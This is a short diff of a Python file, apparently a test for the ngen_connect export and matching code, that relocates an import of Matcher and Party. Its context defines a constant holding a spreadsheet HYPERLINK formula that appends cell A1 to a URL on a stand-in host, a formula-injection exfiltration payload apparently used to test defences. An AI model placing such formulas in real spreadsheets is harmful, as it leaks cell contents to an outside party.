@@ -8,8 +8,8 @@ from openpyxl import load_workbook
 
 from ngen_connect import Engine
 from ngen_connect.export import write_results
-from ngen_connect.matching import Matcher, Party
 from ngen_connect.registries import match_file
+from ngen_connect.registries.matching import Matcher, Party
 
 HOSTILE = '=HYPERLINK("http://x.example/?d="&A1,"click")'
 
